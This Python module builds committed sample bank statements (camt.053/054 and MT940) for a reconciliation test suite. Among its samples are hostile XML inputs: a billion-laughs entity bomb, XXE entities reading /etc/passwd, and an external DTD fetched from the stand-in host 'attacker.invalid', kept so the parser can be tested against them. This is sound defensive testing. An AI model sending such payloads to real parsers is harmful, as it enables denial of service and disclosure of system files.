"""Builders of the sample statements in this folder (and of large ones for races/benchmarks).

The sample files are written by ``python tests/remittances/samples/build.py`` and committed, so a
test reads exactly the bytes a bank would send. Each camt sample holds the same day on the
receiving account (see ``STANDARD_DAY``): a single credit, a batch credit of three transfers
(REM-6), a debit, a reversal, a pending credit, a credit without a bank reference and two credits
that repeat one reference (REM-4). The versions differ where the schema does: ``<Sts>BOOK</Sts>``
and ``Dbtr/Nm`` up to .05/.07, ``<Sts><Cd>`` and ``Dbtr/Pty/Nm`` later; .02 has no ``TxDtls/Amt``.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from decimal import Decimal
from pathlib import Path
from xml.sax.saxutils import escape

HERE = Path(__file__).resolve().parent
DEDICATED_IBAN = "DE89370400440532013000"
SHARED_IBAN = "DE02120300000000202051"
UNKNOWN_IBAN = "DE75512108001245126199"


@dataclass
class Tx:
    amount: str | None
    name: str = ""
    iban: str = ""
    info: str = ""
    e2e: str = ""
    ref: str = ""


@dataclass
class Entry:
    amount: str
    credit: bool = True
    status: str = "BOOK"
    reversal: bool = False
    ref: str = ""
    txs: list[Tx] = field(default_factory=list)
    currency: str = "USD"


STANDARD_DAY = [
    Entry("250.00", ref="E1-REF-0001", txs=[Tx("250.00", "ACME Corp", "GB33BUKB20201555555555", "Invoice 2026-0001", "E2E-0001")]),
    Entry(
        "300.00",
        ref="E2-BATCH",
        txs=[
            Tx("100.00", "Globex Ltd", "FR1420041010050500013M02606", "Globex order 77", "E2E-0002", ref="E2-D1"),
            Tx("120.00", "Initech GmbH", "DE44500105175407324931", "Initech inv 12", "E2E-0003", ref="E2-D2"),
            Tx("80.00", "Umbrella Inc", "NL91ABNA0417164300", "Umbrella Q4", ""),
        ],
    ),
    Entry("75.00", credit=False, ref="E3-REF", txs=[Tx("75.00", "Supplier AG", "DE89370400440532013000", "Fees")]),
    Entry("40.00", credit=False, reversal=True, ref="E4-REF", txs=[Tx("40.00", "Returned Co", "", "Return of transfer")]),
    Entry("500.00", status="PDNG", ref="E5-REF", txs=[Tx("500.00", "Pending Payer", "", "Not yet booked")]),
    Entry("60.00", ref="", txs=[Tx("60.00", "No Ref Payer", "", "no bank reference")]),
    Entry("20.00", ref="DUP-REF", txs=[Tx("20.00", "Dup One", "", "first of two")]),
    Entry("30.00", ref="DUP-REF", txs=[Tx("30.00", "Dup Two", "", "second of two")]),
]
STANDARD_OPENING = Decimal("1000.00")
STANDARD_CLOSING = Decimal("1545.00")  # 1000 + 250 + 300 - 75 - 40 + 60 + 20 + 30 (pending excluded)
STANDARD_CREDITABLE = Decimal("660.00")  # 250 + 300 + 60 + 20 + 30
STANDARD_LINES = 10  # eight entries, the batch split into three
STANDARD_CREDITABLE_LINES = 7


def _new_style(version: int) -> bool:
    return version >= 8


def _party(role: str, name: str, version: int) -> str:
    if not name:
        return ""
    inner = f"<Pty><Nm>{escape(name)}</Nm></Pty>" if _new_style(version) else f"<Nm>{escape(name)}</Nm>"
    return f"<{role}>{inner}</{role}>"


def _tx_xml(tx: Tx, entry: Entry, version: int) -> str:
    refs = "".join(
        [
            f"<AcctSvcrRef>{escape(tx.ref)}</AcctSvcrRef>" if tx.ref else "",
            f"<EndToEndId>{escape(tx.e2e or 'NOTPROVIDED')}</EndToEndId>",
        ]
    )
    if tx.amount is None:
        amount = ""
    elif version == 2:
        amount = f'<AmtDtls><TxAmt><Amt Ccy="{entry.currency}">{tx.amount}</Amt></TxAmt></AmtDtls>'
    else:
        ind = "CRDT" if entry.credit else "DBIT"
        amount = f'<Amt Ccy="{entry.currency}">{tx.amount}</Amt><CdtDbtInd>{ind}</CdtDbtInd>'
    role = "Dbtr" if entry.credit else "Cdtr"
    account = f"<{role}Acct><Id><IBAN>{tx.iban}</IBAN></Id></{role}Acct>" if tx.iban else ""
    parties = _party(role, tx.name, version) + account
    related = f"<RltdPties>{parties}</RltdPties>" if parties else ""
    info = f"<RmtInf><Ustrd>{escape(tx.info)}</Ustrd></RmtInf>" if tx.info else ""
    return f"""
          <TxDtls>
            <Refs>{refs}</Refs>
            {amount}
            {related}
            {info}
          </TxDtls>"""


def _entry_xml(entry: Entry, version: int, date: str) -> str:
    status = f"<Sts><Cd>{entry.status}</Cd></Sts>" if _new_style(version) else f"<Sts>{entry.status}</Sts>"
    reversal = "<RvslInd>true</RvslInd>" if entry.reversal else ""
    ref = f"<AcctSvcrRef>{escape(entry.ref)}</AcctSvcrRef>" if entry.ref else ""
    txs = "".join(_tx_xml(tx, entry, version) for tx in entry.txs)
    details = f"<NtryDtls>{txs}\n        </NtryDtls>" if entry.txs else ""
    return f"""
      <Ntry>
        <Amt Ccy="{entry.currency}">{entry.amount}</Amt>
        <CdtDbtInd>{"CRDT" if entry.credit else "DBIT"}</CdtDbtInd>
        {reversal}
        {status}
        <BookgDt><Dt>{date}</Dt></BookgDt>
        <ValDt><Dt>{date}</Dt></ValDt>
        {ref}
        <BkTxCd><Prtry><Cd>NTRF</Cd></Prtry></BkTxCd>
        {details}
      </Ntry>"""


def _balance_xml(code: str, amount: Decimal, date: str, currency: str) -> str:
    ind = "CRDT" if amount >= 0 else "DBIT"
    return f"""
      <Bal>
        <Tp><CdOrPrtry><Cd>{code}</Cd></CdOrPrtry></Tp>
        <Amt Ccy="{currency}">{abs(amount):.2f}</Amt>
        <CdtDbtInd>{ind}</CdtDbtInd>
        <Dt><Dt>{date}</Dt></Dt>
      </Bal>"""


def camt(
    *,
    message: str = "053",
    version: int = 8,
    statement_id: str = "STMT-2026-11-25",
    iban: str = DEDICATED_IBAN,
    currency: str = "USD",
    entries: list[Entry] | None = None,
    opening: Decimal | None = STANDARD_OPENING,
    closing: Decimal | None = STANDARD_CLOSING,
    date: str = "2026-11-25",
    namespace: str | None = None,
) -> str:
    """A camt.053 / camt.054 document with one statement (notification)."""
    entries = STANDARD_DAY if entries is None else entries
    ns = namespace or f"urn:iso:std:iso:20022:tech:xsd:camt.{message}.001.{version:02d}"
    msg, stmt = ("BkToCstmrStmt", "Stmt") if message == "053" else ("BkToCstmrDbtCdtNtfctn", "Ntfctn")
    balances = ""
    if message == "053":
        if opening is not None:
            balances += _balance_xml("OPBD", opening, date, currency)
        if closing is not None:
            balances += _balance_xml("CLBD", closing, date, currency)
    body = "".join(_entry_xml(e, version, date) for e in entries)
    return f"""<?xml version="1.0" encoding="UTF-8"?>
<Document xmlns="{ns}" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">
  <{msg}>
    <GrpHdr>
      <MsgId>MSG-{statement_id}</MsgId>
      <CreDtTm>{date}T18:00:00</CreDtTm>
    </GrpHdr>
    <{stmt}>
      <Id>{statement_id}</Id>
      <CreDtTm>{date}T18:00:00</CreDtTm>
      <FrToDt><FrDtTm>{date}T00:00:00</FrDtTm><ToDtTm>{date}T23:59:59</ToDtTm></FrToDt>
      <Acct>
        <Id><IBAN>{iban}</IBAN></Id>
        <Ccy>{currency}</Ccy>
        <Svcr><FinInstnId><BICFI>EXBKDEFFXXX</BICFI></FinInstnId></Svcr>
      </Acct>{balances}{body}
    </{stmt}>
  </{msg}>
</Document>
"""


def mt940_day(
    *,
    account: str = DEDICATED_IBAN,
    reference: str = "STMT20261125",
    number: str = "00042/001",
    opening: str = "C261124USD1000,00",
    closing: str = "C261125USD1560,00",
) -> str:
    """An MT940 day: credit, debit, RC and RD reversals, no-reference and repeated references.

    MT940 has no batch details and no pending entries (those are MT942). The default closing
    reconciles: 1000 + 250 - 75 - 40 (RC) + 15 (RD) + 60 + 20 + 30 + 300 = 1560.
    """
    return f"""{{1:F01EXBKDEFFAXXX0000000000}}{{2:O9401800261125EXBKDEFFAXXX00000000002611251800N}}{{4:
:20:{reference}
:25:{account}
:28C:{number}
:60F:{opening}
:61:2611251125C250,00NTRFE2E-0001//E1-REF-0001
:86:?20Invoice 2026-0001?31GB33BUKB20201555555555?32ACME Corp
:61:2611251125D75,00NTRFPAYOUT-1//E3-REF
:86:Fees
:61:2611251125RC40,00NTRFNONREF//E4-REF
:86:Return of transfer
:61:2611251125RD15,00NTRFNONREF//E4B-REF
:86:Reversed debit
:61:2611251125C60,00NTRFNONREF
:86:no bank reference
:61:2611251125C20,00NTRFNONREF//DUP-REF
:86:?20first of two?32Dup One
:61:2611251125C30,00NTRFNONREF//DUP-REF
:86:?20second of two?32Dup Two
:61:2611251125C300,00NTRFINV-300//E9-REF
:86:?20Globex order 77?21and more text?32Globex Ltd
:62F:{closing}
-}}
"""


MT940_LINES = 8
MT940_CREDITABLE = Decimal("660.00")  # 250 + 60 + 20 + 30 + 300
MT940_CREDITABLE_LINES = 5

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE Document [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<Document xmlns="urn:iso:std:iso:20022:tech:xsd:camt.053.001.08">
  <BkToCstmrStmt><Stmt><Id>&lol9;</Id></Stmt></BkToCstmrStmt>
</Document>
"""


def _with_doctype(doctype: str, marker: str) -> str:
    doc = camt(statement_id="XXE-1")
    doc = doc.replace('<?xml version="1.0" encoding="UTF-8"?>\n', f'<?xml version="1.0" encoding="UTF-8"?>\n{doctype}\n')
    return doc.replace("<Nm>ACME Corp</Nm>", f"<Nm>{marker}</Nm>")


EXTERNAL_ENTITY = _with_doctype('<!DOCTYPE Document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', "&xxe;")
EXTERNAL_DTD = _with_doctype('<!DOCTYPE Document SYSTEM "http://attacker.invalid/evil.dtd">', "ACME Corp")
PARAMETER_ENTITY = _with_doctype(
    '<!DOCTYPE Document [<!ENTITY % remote SYSTEM "file:///etc/passwd"> %remote;]>', "ACME Corp"
)


def samples() -> dict[str, str]:
    """File name -> content of every committed sample."""
    files: dict[str, str] = {}
    for version in (2, 4, 8, 13):
        files[f"camt053_v{version:02d}.xml"] = camt(version=version, statement_id=f"STMT-053-V{version:02d}")
    for version in (2, 8):
        files[f"camt054_v{version:02d}.xml"] = camt(
            message="054", version=version, statement_id=f"NTFCTN-054-V{version:02d}"
        )
    files["camt053_shared_v08.xml"] = camt(iban=SHARED_IBAN, statement_id="STMT-SHARED-1")
    files["camt053_unreconciled_v08.xml"] = camt(statement_id="STMT-BAD-BAL", closing=Decimal("1545.01"))
    files["camt053_unknown_account_v08.xml"] = camt(iban=UNKNOWN_IBAN, statement_id="STMT-UNKNOWN")
    files["camt053_eur_v08.xml"] = camt(
        statement_id="STMT-EUR",
        currency="EUR",
        entries=[Entry("99.00", currency="EUR", ref="EUR-1", txs=[Tx("99.00", "Euro Payer", "", "eur")])],
        closing=Decimal("1099.00"),
    )
    files["camt053_unknown_version.xml"] = camt(version=99, statement_id="STMT-V99")
    files["camt052_v08.xml"] = camt(
        statement_id="RPT-1", namespace="urn:iso:std:iso:20022:tech:xsd:camt.052.001.08"
    )
    files["pain001.xml"] = (
        '<?xml version="1.0"?>\n<Document xmlns="urn:iso:std:iso:20022:tech:xsd:pain.001.001.09">'
        "<CstmrCdtTrfInitn><GrpHdr><MsgId>P1</MsgId></GrpHdr></CstmrCdtTrfInitn></Document>\n"
    )
    full = camt(statement_id="STMT-TRUNC")
    files["camt053_truncated.xml"] = full[: full.index("<Ntry>", full.index("E2-BATCH") - 400) + 200]
    files["camt053_batch_mismatch_v08.xml"] = camt(
        statement_id="STMT-BATCH-BAD",
        entries=[Entry("300.00", ref="BB-1", txs=[Tx("100.00", "A"), Tx("150.00", "B")])],
        closing=Decimal("1300.00"),
    )
    files["camt053_three_decimals_v08.xml"] = camt(
        statement_id="STMT-3DEC",
        entries=[Entry("10.005", ref="D3-1", txs=[Tx("10.005", "A")])],
        closing=Decimal("1010.00"),
    )
    files["camt053_jpy_v08.xml"] = camt(
        statement_id="STMT-JPY",
        currency="JPY",
        entries=[Entry("1000", currency="JPY", ref="JPY-1", txs=[Tx("1000", "A")])],
        opening=Decimal("0"),
        closing=Decimal("1000"),
    )
    files["billion_laughs.xml"] = BILLION_LAUGHS
    files["external_entity.xml"] = EXTERNAL_ENTITY
    files["external_dtd.xml"] = EXTERNAL_DTD
    files["parameter_entity.xml"] = PARAMETER_ENTITY
    files["mt940_day.sta"] = mt940_day()
    files["mt940_shared.sta"] = mt940_day(account=SHARED_IBAN, reference="SHARED20261125")
    files["mt940_unreconciled.sta"] = mt940_day(closing="C261125USD1560,01", reference="BADBAL")
    day = mt940_day()
    files["mt940_truncated.sta"] = day[: day.index(":61:2611251125C20,00")]
    return files


def write_all() -> None:
    for name, content in samples().items():
        (HERE / name).write_text(content, encoding="utf-8")


if __name__ == "__main__":
    write_all()
